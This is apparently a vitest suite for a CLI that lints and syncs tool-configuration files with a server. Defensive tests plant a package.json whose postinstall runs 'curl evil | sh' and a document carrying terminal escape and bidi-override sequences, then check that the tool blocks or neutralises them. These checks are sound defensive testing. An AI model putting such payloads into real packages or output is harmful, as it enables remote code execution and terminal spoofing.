import { execFile } from "node:child_process";
import { copyFileSync, existsSync, mkdirSync, mkdtempSync, readFileSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { runCli } from "@vance/cli";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { testApp } from "./support/app";
import { listen, token } from "./support/ui-project";

/** The bin `npm install` links: run as a user runs it, in a process of its own. */
const BIN = join(process.cwd(), "node_modules", ".bin", "vance-tools");

let server: Awaited<ReturnType<typeof listen>>;
let env: Record<string, string>;

interface Run {
  code: number;
  stdout: string;
  stderr: string;
}

/** Runs the CLI against the test server (asynchronously: the server answers from this process). */
function run(args: string[], extraEnv: Record<string, string> = {}): Promise<Run> {
  return new Promise((resolve) => {
    execFile(BIN, args, { env: { ...env, ...extraEnv }, timeout: 30_000 }, (error, stdout, stderr) => {
      const code = error ? (typeof error.code === "number" ? error.code : 1) : 0;
      resolve({ code, stdout, stderr });
    });
  });
}

/**
 * The same program in this process (`runCli`): for the commands whose wiring the bin runs above
 * have shown, at a fraction of a process start each.
 */
async function runHere(args: string[], extraEnv: Record<string, string> = {}): Promise<Run> {
  let stdout = "";
  let stderr = "";
  const code = await runCli(
    ["node", "vance-tools", ...args],
    {
      out: { write: (text: string) => (stdout += text) },
      err: { write: (text: string) => (stderr += text) },
    },
    { ...env, ...extraEnv },
  );
  return { code, stdout, stderr };
}

function folder(files: Record<string, string>): string {
  const dir = mkdtempSync(join(tmpdir(), "vance-cli-"));
  for (const [path, text] of Object.entries(files)) {
    mkdirSync(join(dir, path, ".."), { recursive: true });
    writeFileSync(join(dir, path), text);
  }
  return dir;
}

const doc = (description: string, extra = "") =>
  `type: doc_lookup\ndescription: ${description}\n${extra}parameters: { path: documents/getting_started.md }\n`;

/** Ten documents of a configuration repository: nine tools and an MCP server connection. */
const TEN = {
  ...Object.fromEntries(
    Array.from({ length: 9 }, (_, i) => [
      `server-tools/cli_tool_${i}.yaml`,
      doc(`CLI tool ${i}`, "labels: [cli]\n"),
    ]),
  ),
  "mcp-servers/issues.yaml":
    "url: https://mcp.example.com/mcp\nheaders:\n  Authorization: Bearer ${secret:ISSUES_TOKEN}\n",
};

beforeAll(async () => {
  const { app } = await testApp();
  server = await listen(app);
  const { VANCE_URL: _u, VANCE_TOKEN: _t, VANCE_TENANT: _a, VANCE_PROJECT: _p, ...rest } = process.env;
  env = {
    ...(rest as Record<string, string>),
    NO_COLOR: "1",
    VANCE_URL: server.base,
    VANCE_TOKEN: await token("acme", ["read", "write", "admin"]),
    VANCE_TENANT: "acme",
    VANCE_PROJECT: "cli",
  };
});

afterAll(async () => {
  await server?.close();
});

describe("vance-tools lint (offline, the service's own parsers)", () => {
  it("prints one file:line error per broken document and exits 1", async () => {
    const dir = folder({
      "server-tools/good.yaml": doc("Fine"),
      "server-tools/teleport.yaml": "description: Beams things\ntype: teleport\n",
      "server-tools/renamed.yaml":
        "type: doc_lookup\ndescription: d\nname: other_name\nparameters: { path: a.md }\n",
      "mcp-servers/broken.yaml": "url: https://mcp.example.com/mcp\nheaders: [unclosed\n",
    });
    const { code, stdout, stderr } = await run(["lint", dir]);
    expect(code).toBe(1);
    const lines = stdout.trim().split("\n");
    expect(lines).toHaveLength(3);
    expect(lines).toEqual([
      expect.stringMatching(
        new RegExp(`^${dir}/server-tools/renamed\\.yaml:3: name: must equal 'renamed' \\[name_mismatch\\]$`),
      ),
      expect.stringMatching(
        new RegExp(
          `^${dir}/server-tools/teleport\\.yaml:2: type: must be one of .*scripted.* \\[unknown_type\\]$`,
        ),
      ),
      expect.stringMatching(
        new RegExp(`^${dir}/mcp-servers/broken\\.yaml:[23]: .* \\[validation_failed\\]$`),
      ),
    ]);
    expect(stderr).toContain("3 problem(s) in 4 documents");
  });

  it("reports every problem of a broken file in one run, in line order", async () => {
    // Problems at each stage a write checks: the common fields, the name, pack-only fields, the parameters.
    const broken = [
      "type: rest",
      "labels: [Not A Label]",
      "name: another_name",
      "disabledSubTools: [x]",
      "parameters:",
      "  method: TELEPORT",
      "  url: https://api.example.com/x",
      'description: ""',
    ].join("\n");
    const dir = folder({ "server-tools/broken.yaml": `${broken}\n` });
    const { code, stdout } = await run(["lint", dir]);
    expect(code).toBe(1);
    const lines = stdout
      .trim()
      .split("\n")
      .map((line) => line.slice(`${dir}/server-tools/broken.yaml:`.length));
    expect(lines).toEqual([
      expect.stringMatching(/^2: labels\.0: /),
      "3: name: must equal 'broken' [validation_failed]",
      expect.stringMatching(/^4: disabledSubTools: disabledSubTools applies to packs/),
      expect.stringMatching(/^6: parameters\.method: /),
      expect.stringMatching(/^8: description: description must not be empty/),
    ]);
  });

  it("checks type parameters, name rules and the network policy, with the line of the field", async () => {
    const dir = folder({
      "server-tools/Caps.yaml": doc("Bad file name"),
      "server-tools/internal.yaml":
        "type: rest\ndescription: d\nparameters:\n  method: GET\n  url: http://10.0.0.1/x\n",
      "server-tools/slow.yaml":
        "type: scripted\ndescription: d\nparameters:\n  inputs: []\n  source: '1'\n  timeoutMs: -5\n",
    });
    const { code, stdout } = await runHere(["--json", "lint", dir]);
    expect(code).toBe(1);
    const { problems } = JSON.parse(stdout) as { problems: { file: string; line: number; code: string }[] };
    const at = (file: string) => problems.filter((p) => p.file.endsWith(file)).map((p) => [p.line, p.code]);
    expect(at("Caps.yaml")).toContainEqual([1, "invalid_id"]);
    expect(at("internal.yaml")).toEqual([[5, "validation_failed"]]);
    expect(at("slow.yaml")).toEqual([[6, "validation_failed"]]);
  });

  it("takes a folder of tool files, single files and scripts, as linters do", async () => {
    const dir = folder({
      "tools/fine.yaml": doc("Fine"),
      "tools/typo.yml": "type: doc_lookup\ndescripton: d\nparameters: { path: a.md }\n",
      "tools/README.md": "not a document\n",
      "mcp-servers/issues.yaml": "url: https://mcp.example.com/mcp\ntimeoutMS: 5\n",
      "scripts/broken.js": "const a = 1;\na +\n",
      "layer/server-tools/adds.yaml":
        "type: scripted\ndescription: d\nparameters:\n  inputs: []\n  source: |\n    1 +\n",
      "layer/documents/helper.js": "function (\n",
    });
    const tools = await runHere(["--json", "lint", join(dir, "tools")]);
    expect(JSON.parse(tools.stdout)).toEqual({
      files: 2,
      problems: [
        {
          file: join(dir, "tools/typo.yml"),
          line: 1,
          code: "validation_failed",
          message: "description: missing required field",
        },
        {
          file: join(dir, "tools/typo.yml"),
          line: 2,
          code: "validation_failed",
          message: "descripton: unknown field; did you mean 'description'?",
        },
      ],
    });
    const files = await run([
      "lint",
      join(dir, "tools/fine.yaml"),
      join(dir, "mcp-servers/issues.yaml"),
      join(dir, "scripts/broken.js"),
    ]);
    expect(files.code).toBe(1);
    expect(files.stdout.trim().split("\n")).toEqual([
      `${join(dir, "mcp-servers/issues.yaml")}:2: timeoutMS: unknown field; did you mean 'timeoutMs'? [validation_failed]`,
      `${join(dir, "scripts/broken.js")}:3: the script does not compile: Unexpected token (line 3, column 1) [validation_failed]`,
    ]);
    const layer = JSON.parse((await runHere(["--json", "lint", join(dir, "layer")])).stdout);
    expect(
      layer.problems.map((p: { file: string; line: number }) => [p.file.slice(dir.length), p.line]),
    ).toEqual([
      ["/layer/server-tools/adds.yaml", 7],
      ["/layer/documents/helper.js", 1],
    ]);
    const none = await runHere(["lint", join(dir, "tools", "README.md").replace("README.md", "")]);
    expect(none.code).toBe(1);
    const empty = await runHere(["lint", folder({ "notes.txt": "x\n" })]);
    expect(empty.code).toBe(1);
    expect(empty.stderr).toMatch(/^error: no documents to lint in /);
  });

  it("exits 0 on a good folder", async () => {
    const { code, stdout, stderr } = await run(["lint", folder(TEN)]);
    expect({ code, stdout }).toEqual({ code: 0, stdout: "" });
    expect(stderr).toContain("10 documents valid");
  });
});

describe("vance-tools as installed", () => {
  it("is one plain JavaScript file that runs without the repository (no TypeScript loader at run time)", async () => {
    const bin = readFileSync(join(process.cwd(), "packages/cli/bin/vance-tools.js"), "utf8");
    expect(bin).not.toContain("tsx");
    const pkg = JSON.parse(readFileSync(join(process.cwd(), "packages/cli/package.json"), "utf8"));
    expect(Object.keys(pkg.dependencies)).not.toContain("tsx");
    const root = JSON.parse(readFileSync(join(process.cwd(), "package.json"), "utf8"));
    expect(root.scripts.prepare).toBe("npm run build:cli");
    // Copied where no node_modules is above it: it needs nothing it does not carry.
    const alone = mkdtempSync(join(tmpdir(), "vance-bundle-"));
    copyFileSync(join(process.cwd(), "packages/cli/dist/vance-tools.mjs"), join(alone, "vance-tools.mjs"));
    const help = await new Promise<Run>((resolve) =>
      execFile(
        process.execPath,
        [join(alone, "vance-tools.mjs"), "--help"],
        { cwd: alone },
        (error, stdout, stderr) => resolve({ code: error ? 1 : 0, stdout, stderr }),
      ),
    );
    expect(help.code, help.stderr).toBe(0);
    expect(help.stdout).toContain("Usage: vance-tools");
    const lint = await new Promise<Run>((resolve) =>
      execFile(
        process.execPath,
        [join(alone, "vance-tools.mjs"), "lint", folder(TEN)],
        { cwd: alone },
        (error, stdout, stderr) => resolve({ code: error ? 1 : 0, stdout, stderr }),
      ),
    );
    expect(lint.stderr).toContain("10 documents valid");
  });
});

describe("vance-tools schema and types", () => {
  it("prints a draft-07 JSON Schema with one if/then per type, and lists the types", async () => {
    const schema = JSON.parse((await runHere(["schema"])).stdout);
    expect(schema.$schema).toBe("http://json-schema.org/draft-07/schema#");
    expect(schema.required).toEqual(["type", "description"]);
    const types = JSON.parse((await runHere(["--json", "types"])).stdout).types.map(
      (t: { typeId: string }) => t.typeId,
    );
    expect(
      schema.allOf.map(
        (rule: { if: { properties: { type: { const: string } } } }) => rule.if.properties.type.const,
      ),
    ).toEqual(types);
    expect(types).toEqual(
      expect.arrayContaining(["scripted", "rest", "doc_lookup", "mcp_server", "openapi"]),
    );
    const server = JSON.parse((await runHere(["schema", "mcp-server"])).stdout);
    expect(server.required).toEqual(["url"]);
  });
});

describe("vance-tools against the running server", () => {
  it("push then list round-trips ten documents; a second push reports them unchanged", async () => {
    const dir = folder({ ...TEN, "README.md": "not a document: files at the top are left out\n" });
    const first = await run(["push", dir]);
    expect(first.code, first.stderr).toBe(0);
    expect(first.stdout.trim().split("\n").at(-1)).toBe("created 10, replaced 0, unchanged 0, failed 0");

    const list = await run(["list", "--label", "cli"]);
    const rows = list.stdout.trim().split("\n");
    expect(rows[0]).toMatch(/^NAME\s+LAYER\s+TYPE\s+LABELS\s+PRIMARY\s+PACK\s+UPDATED$/);
    expect(rows.slice(1).map((row) => row.split(/\s+/).slice(0, 5))).toEqual(
      Array.from({ length: 9 }, (_, i) => [`cli_tool_${i}`, "project", "doc_lookup", "cli", "no"]),
    );
    // When each was written (the token has no subject, so no author follows the time).
    for (const row of rows.slice(1)) expect(row).toMatch(/\s\d{4}-\d\d-\d\d \d\d:\d\d$/);
    const listed = JSON.parse((await runHere(["--json", "list"])).stdout) as {
      tools: { name: string; layer: string }[];
    };
    expect(listed.tools.filter((tool) => tool.name.startsWith("cli_tool_"))).toHaveLength(9);

    const pulled = mkdtempSync(join(tmpdir(), "vance-pull-"));
    expect((await runHere(["pull", pulled])).code).toBe(0);
    for (const [path, text] of Object.entries(TEN))
      expect(readFileSync(join(pulled, path), "utf8")).toBe(text);

    const second = await run(["--json", "push", dir]);
    expect(second.code).toBe(0);
    const summary = JSON.parse(second.stdout);
    expect(summary.unchanged).toHaveLength(10);
    expect([summary.created, summary.replaced, summary.failed]).toEqual([[], [], []]);
  });

  it("push replaces what changed, reports server refusals with their lines, and stops at the first conflict unless --force", async () => {
    const dir = mkdtempSync(join(tmpdir(), "vance-cli-"));
    expect((await runHere(["pull", dir])).code).toBe(0);
    mkdirSync(join(dir, "documents"));
    writeFileSync(join(dir, "documents", "notes"), "a document where another layer document has a folder\n");
    writeFileSync(join(dir, "server-tools/cli_tool_0.yaml"), doc("CLI tool 0, changed", "labels: [cli]\n"));
    writeFileSync(
      join(dir, "server-tools/zz_bad.yaml"),
      "type: doc_lookup\ndescription: d\nparameters:\n  nope: 1\n",
    );
    const other = folder({ "documents/notes/today.md": "# Today\n" });
    expect((await runHere(["push", other])).code).toBe(0);

    const stopped = JSON.parse((await runHere(["--json", "push", dir])).stdout);
    expect(stopped.stopped).toMatchObject({ path: "documents/notes", code: "path_conflict" });
    expect(stopped.notSent).toEqual(["server-tools/cli_tool_0.yaml", "server-tools/zz_bad.yaml"]);

    const forced = await run(["push", "--force", dir]);
    expect(forced.code).toBe(1);
    expect(forced.stdout).toContain("failed documents/notes");
    expect(forced.stdout).toMatch(
      /server-tools\/zz_bad\.yaml:4: parameters\.nope: unknown field; the fields here are path$/m,
    );
    expect(forced.stdout.trim().split("\n").at(-1)).toBe("created 0, replaced 1, unchanged 9, failed 2");
  });

  it("push sends nothing when a colleague changed a document on the server since this folder's last pull, unless --force", async () => {
    const mine = mkdtempSync(join(tmpdir(), "vance-mine-"));
    const theirs = mkdtempSync(join(tmpdir(), "vance-theirs-"));
    const project = { VANCE_PROJECT: "colleagues" };
    const seed = folder({ "server-tools/shared_a.yaml": doc("A"), "server-tools/shared_b.yaml": doc("B") });
    expect((await runHere(["push", seed], project)).code).toBe(0);
    expect((await runHere(["pull", mine], project)).code).toBe(0);
    expect((await runHere(["pull", theirs], project)).code).toBe(0);
    expect(JSON.parse(readFileSync(join(mine, ".vance-tools.json"), "utf8")).version).toBe(1);

    writeFileSync(join(theirs, "server-tools/shared_a.yaml"), doc("A, as the colleague wrote it"));
    expect((await runHere(["push", theirs], project)).stdout.trim()).toBe(
      "created 0, replaced 1, unchanged 1, failed 0",
    );
    writeFileSync(join(mine, "server-tools/shared_a.yaml"), doc("A, mine"));
    writeFileSync(join(mine, "server-tools/shared_b.yaml"), doc("B, mine"));
    const refused = await run(["push", mine], project);
    expect(refused.code).toBe(1);
    expect(refused.stdout).toContain(
      "conflict: server-tools/shared_a.yaml changed on the server since the last pull or push here",
    );
    expect(refused.stdout).toContain("nothing sent: 1 document(s) changed on the server");
    expect(refused.stdout).not.toContain("created 0");
    const stored = await runHere(["get", "shared_b"], project);
    expect(stored.stdout).toBe(doc("B"));

    // A document stored there that this folder never pulled is a conflict too.
    const fresh = folder({ "server-tools/shared_a.yaml": doc("A, from a fresh folder") });
    const unseen = JSON.parse((await runHere(["--json", "push", fresh], project)).stdout);
    expect(unseen.conflicts).toEqual([
      expect.objectContaining({ path: "server-tools/shared_a.yaml", code: "changed_on_server" }),
    ]);

    const forced = await runHere(["push", "--force", mine], project);
    expect(forced.stdout.trim()).toBe("created 0, replaced 2, unchanged 0, failed 0");
    // After a push the folder knows the new ETags: the next edit goes through without --force.
    writeFileSync(join(mine, "server-tools/shared_b.yaml"), doc("B, mine again"));
    expect((await runHere(["push", mine], project)).stdout.trim()).toBe(
      "created 0, replaced 1, unchanged 1, failed 0",
    );
  });

  it("pull writes only documents inside folders: a stored package.json never replaces the repository's own", async () => {
    const headers = { authorization: `Bearer ${env.VANCE_TOKEN}`, "content-type": "application/json" };
    const base = `${server.base}/v1/tenants/acme/projects/planted/documents`;
    const planted = JSON.stringify({ scripts: { postinstall: "curl evil | sh" } });
    expect((await fetch(`${base}/package.json`, { method: "PUT", headers, body: planted })).status).toBe(201);
    expect(
      (await fetch(`${base}/node_modules/left/index.js`, { method: "PUT", headers, body: "1\n" })).status,
    ).toBe(201);
    expect(
      (
        await fetch(`${base}/server-tools/kept.yaml`, {
          method: "PUT",
          // A YAML document: one sent as application/json must be JSON (400 invalid_json).
          headers: { ...headers, "content-type": "application/yaml" },
          body: doc("Kept"),
        })
      ).status,
    ).toBe(201);
    const dir = folder({ "package.json": '{ "name": "my-config" }\n' });
    const pulled = await runHere(["pull", dir], { VANCE_PROJECT: "planted" });
    expect(pulled.code).toBe(0);
    expect(readFileSync(join(dir, "package.json"), "utf8")).toBe('{ "name": "my-config" }\n');
    expect(existsSync(join(dir, "node_modules"))).toBe(false);
    expect(readFileSync(join(dir, "server-tools/kept.yaml"), "utf8")).toBe(doc("Kept"));
    expect(pulled.stdout).toContain(
      "left out package.json: a file at the folder's top is the repository's own",
    );
    expect(pulled.stdout).toContain(
      "left out node_modules/left/index.js: 'node_modules/' holds installed packages",
    );
    expect(pulled.stdout.trim().split("\n").at(-1)).toMatch(/^pulled 1 document\(s\) of the project layer/);
  });

  it("neutralises escape sequences and bidi overrides a server sends when printing to a terminal; a pipe gets the bytes", async () => {
    const headers = { authorization: `Bearer ${env.VANCE_TOKEN}`, "content-type": "text/markdown" };
    const base = `${server.base}/v1/tenants/acme/projects/hostile`;
    const hostile = "Report\u001b]0;pwned\u0007\u001b[2J\u001b[1A ok \u202egnp.exe\r fake\n";
    expect(
      (await fetch(`${base}/documents/documents/evil.md`, { method: "PUT", headers, body: hostile })).status,
    ).toBe(201);
    const tool = "type: doc_lookup\ndescription: Evil\nparameters: { path: documents/evil.md }\n";
    expect(
      (
        await fetch(`${base}/tools/evil`, {
          method: "PUT",
          headers: { ...headers, "content-type": "application/yaml" },
          body: tool,
        })
      ).status,
    ).toBe(201);
    let out = "";
    const code = await runCli(
      ["node", "vance-tools", "invoke", "evil"],
      {
        out: { write: (text: string) => (out += text), isTTY: true },
        err: { write: () => true, isTTY: true },
      },
      { ...env, VANCE_PROJECT: "hostile" },
    );
    expect(code).toBe(0);
    expect(out).toBe("Report\\u001b]0;pwned\\u0007\\u001b[2J\\u001b[1A ok \\u202egnp.exe\\u000d fake\n\n");
    // biome-ignore lint/suspicious/noControlCharactersInRegex: no raw control character may be left
    expect(out).not.toMatch(/[\u0000-\u0009\u000b-\u001f\u202e]/);
    const piped = await runHere(["invoke", "evil"], { VANCE_PROJECT: "hostile" });
    expect(piped.stdout).toBe(`${hostile}\n`);
  });

  it("says so when there is nothing: no usage, no secrets, nothing to pull or push", async () => {
    const fresh = {
      VANCE_TENANT: "emptyco",
      VANCE_PROJECT: "nothing",
      VANCE_TOKEN: await token("emptyco", ["read", "write", "admin"]),
    };
    expect((await runHere(["usage"], fresh)).stdout.trim()).toBe(
      "no usage recorded in emptyco/nothing yet: calls are counted per role when made in a process (invoke_tool, a process's invoke, MCP tools/call); direct invokes (vance-tools invoke) are not counted",
    );
    expect((await runHere(["secrets", "list"], fresh)).stdout.trim()).toBe(
      "tenant emptyco has no secrets (vance-tools secrets set NAME stores one)",
    );
    expect((await runHere(["list", "--label", "none_such"], fresh)).stdout.trim()).toBe(
      "no tools labelled 'none_such' in emptyco/nothing",
    );
    const dir = mkdtempSync(join(tmpdir(), "vance-empty-"));
    expect((await runHere(["pull", dir], fresh)).stdout.trim()).toBe(
      "the project layer of emptyco/nothing has no documents to pull; nothing written",
    );
    const push = await runHere(["push", folder({ "README.md": "# only a readme\n" })], fresh);
    expect(push.code).toBe(1);
    expect(push.stderr).toMatch(/^error: no documents in .*: documents live in its sub-folders/);
  });

  it("push and pull read the layer alone (GET T/documents): not the cascade's other layers", async () => {
    const headers = { authorization: `Bearer ${env.VANCE_TOKEN}` };
    const put = await fetch(
      `${server.base}/v1/tenants/acme/projects/_tenant/documents/server-tools/tenant_only.yaml`,
      {
        method: "PUT",
        headers: { ...headers, "content-type": "application/yaml" },
        body: doc("Tenant-wide"),
      },
    );
    expect(put.status).toBe(201);
    const project = await fetch(
      `${server.base}/v1/tenants/acme/projects/cli/documents?prefix=server-tools/`,
      { headers },
    );
    const listing = (await project.json()) as { layer: string; documents: { path: string; etag: string }[] };
    expect(listing.layer).toBe("project");
    expect(listing.documents.map((d) => d.path)).not.toContain("server-tools/tenant_only.yaml");
    expect(listing.documents.every((d) => d.path.startsWith("server-tools/") && d.etag.length > 0)).toBe(
      true,
    );
    const tenant = await runHere([
      "--json",
      "--project",
      "_tenant",
      "pull",
      mkdtempSync(join(tmpdir(), "vance-pull-")),
    ]);
    expect(JSON.parse(tenant.stdout)).toMatchObject({
      layer: "tenant",
      paths: ["server-tools/tenant_only.yaml"],
    });
    const bad = await fetch(`${server.base}/v1/tenants/acme/projects/cli/documents?prefix=../x/`, {
      headers,
    });
    expect(bad.status).toBe(400);
  });

  it("on a terminal, push draws a progress bar and colours its summary; a pipe gets neither", async () => {
    const dir = folder({ "server-tools/tty_a.yaml": doc("A"), "server-tools/tty_b.yaml": doc("B") });
    let out = "";
    let err = "";
    const code = await runCli(
      ["node", "vance-tools", "push", dir],
      {
        out: { write: (text: string) => (out += text), isTTY: true },
        err: { write: (text: string) => (err += text), isTTY: true, columns: 80 },
      },
      { ...env, NO_COLOR: "" },
    );
    expect(code).toBe(0);
    expect(err).toContain("\r\u001b[2K[------------------------] 0/2 server-tools/tty_a.yaml");
    expect(err).toContain("[############------------] 1/2 server-tools/tty_b.yaml");
    expect(out).toContain("\u001b[32mcreated 2\u001b[39m");
    const piped = await runHere(["push", dir]);
    expect(piped.stderr).toBe("");
    expect(piped.stdout).toBe("created 0, replaced 0, unchanged 2, failed 0\n");
  });

  it("put with a stale ETag reports the conflict with its code", async () => {
    const dir = folder({ "server-tools/stale_one.yaml": doc("First") });
    const file = join(dir, "server-tools/stale_one.yaml");
    const created = JSON.parse((await runHere(["--json", "put", file])).stdout);
    expect(created).toMatchObject({ path: "server-tools/stale_one.yaml", created: true });
    const got = await runHere(["get", "stale_one"]);
    expect(got.stdout).toBe(doc("First"));
    expect(got.stderr).toContain(`ETag: ${created.etag}`);

    writeFileSync(file, doc("Second"));
    expect((await runHere(["put", file, "--if-match", created.etag])).code).toBe(0);
    writeFileSync(file, doc("Third"));
    const stale = await run(["put", file, "--if-match", created.etag]);
    expect(stale.code).toBe(1);
    expect(stale.stderr).toMatch(/^error: .+ \[precondition_failed, HTTP 412\]$/m);
    const asJson = JSON.parse((await runHere(["--json", "put", file, "--if-match", created.etag])).stdout);
    expect(asJson.error).toMatchObject({ code: "precondition_failed", status: 412 });
  });

  it("limits list and withdraw: the tenant admin sees its learned limit, withdraws it, and a second withdraw is refused with the server's code", async () => {
    const learned = await fetch(`${server.base}/v1/models/observed-limits`, {
      method: "POST",
      headers: { authorization: `Bearer ${env.VANCE_TOKEN}`, "content-type": "application/json" },
      body: JSON.stringify({ model: "openai/gpt-4.1", error: "Too many tools provided: 163 > 77" }),
    });
    expect(learned.status).toBe(200);
    const listed = await runHere(["limits", "list"]);
    expect(listed.code, listed.stderr).toBe(0);
    expect(listed.stdout).toMatch(/^acme\s+openai\s+77\s+openai\/gpt-4\.1\s+\d{4}-/m);
    const withdrawn = await runHere(["limits", "withdraw", "acme", "openai"]);
    expect(withdrawn.stdout.trim()).toBe("withdrew the limit learned for openai in scope acme");
    expect(JSON.parse((await runHere(["--json", "limits", "list"])).stdout)).toEqual({ limits: [] });
    const again = await runHere(["limits", "withdraw", "acme", "openai"]);
    expect(again.code).toBe(1);
    expect(again.stderr).toContain("[not_found, HTTP 404]");
  });

  it("invoke, usage, manifest, delete and secrets speak the API, refusals with the server's code", async () => {
    const invoked = await runHere(["invoke", "cli_tool_1"]);
    expect(invoked.code, invoked.stderr).toBe(0);
    expect(invoked.stdout).toMatch(/^# .*\n/);
    expect(invoked.stdout).toContain("Vance Server Tools");
    const asJson = JSON.parse((await runHere(["--json", "invoke", "cli_tool_1"])).stdout);
    expect(asJson).toMatchObject({
      value: expect.stringContaining("Vance Server Tools"),
      durationMs: expect.any(Number),
    });
    const invalid = await runHere(["invoke", "cli_tool_1", "--params", '{"x":1}']);
    expect(invalid.stderr).toContain("[invalid_params, HTTP 422]");
    // Direct invokes are not counted per role, and usage says so rather than only "nothing yet".
    expect((await runHere(["usage"])).stdout).toContain(
      "direct invokes (vance-tools invoke) are not counted",
    );

    const spawned = await fetch(`${server.base}/v1/tenants/acme/projects/cli/processes`, {
      method: "POST",
      headers: { authorization: `Bearer ${env.VANCE_TOKEN}`, "content-type": "application/json" },
      body: JSON.stringify({ recipe: "cli", engineDefault: ["@cli"], models: ["openai/gpt-4.1"] }),
    });
    const { processId } = (await spawned.json()) as { processId: string };
    await fetch(`${server.base}/v1/tenants/acme/projects/cli/processes/${processId}/invoke`, {
      method: "POST",
      headers: { authorization: `Bearer ${env.VANCE_TOKEN}`, "content-type": "application/json" },
      body: JSON.stringify({ name: "cli_tool_2", params: {} }),
    });
    const usage = await runHere(["usage"]);
    expect(usage.stdout).toMatch(/^cli\s+cli_tool_2\s+1\s+0\s+\S+$/m);
    const manifest = await runHere(["manifest", processId]);
    expect(manifest.stdout).toContain("budget: maxTools 128, reserve 1, limit 127");
    // The call activated cli_tool_2: on the wire from the next turn; the other eight stay deferred.
    expect(manifest.stdout).toMatch(/^on the wire \(3\)\n {2}cli_tool_2\n/m);
    expect(manifest.stdout).toMatch(/^deferred \(8\)$/m);
    // The two wire formats read differently: their shape and size.
    expect(manifest.stdout).toMatch(
      /^tools array in the openai format: 3 tools, [\d,]+ bytes, each \{type, function\}/m,
    );
    const anthropic = await runHere(["manifest", processId, "--format", "anthropic"]);
    expect(anthropic.stdout).toMatch(
      /^tools array in the anthropic format: 3 tools, [\d,]+ bytes, each \{name, description, input_schema\}/m,
    );

    expect((await runHere(["secrets", "set", "CLI_TOKEN", "--value", "s3cr3t-value"])).code).toBe(0);
    const secrets = await runHere(["secrets", "list"]);
    expect(secrets.stdout).toMatch(/^CLI_TOKEN\s+\d{4}-/m);
    expect(secrets.stdout).not.toContain("s3cr3t-value");
    expect((await runHere(["secrets", "delete", "CLI_TOKEN"])).code).toBe(0);
    const lower = await runHere(["secrets", "set", "jira_token", "--value", "x"]);
    expect(lower.code).toBe(1);
    expect(lower.stderr).toContain(
      "name 'jira_token' is not a valid id: secret names are upper-case letters, digits and '_', starting with a letter, at most 64 characters; did you mean 'JIRA_TOKEN'?",
    );

    expect((await runHere(["delete", "cli_tool_8"])).stdout.trim()).toBe(
      "deleted server-tools/cli_tool_8.yaml",
    );
    const gone = await runHere(["get", "cli_tool_8"]);
    expect(gone.code).toBe(1);
    expect(gone.stderr).toContain("[tool_not_found, HTTP 404]");
  });

  it("another tenant's token is refused with the server's code; an unreachable server is named", async () => {
    const forbidden = await runHere(["list"], { VANCE_TOKEN: await token("globex", ["read"]) });
    expect(forbidden.code).toBe(1);
    expect(forbidden.stderr).toMatch(
      /^error: the token is for tenant 'globex', not 'acme' \[forbidden, HTTP 403\]$/m,
    );
    const closed = await listen((await testApp()).app);
    await closed.close();
    const down = await runHere(["list"], { VANCE_URL: closed.base });
    expect(down.stderr).toBe(`error: cannot reach ${closed.base}: ECONNREFUSED\n`);
    const noToken = await runHere(["list"], { VANCE_TOKEN: "" });
    expect(noToken.stderr).toContain("no token: pass --token or set VANCE_TOKEN");
  });
});
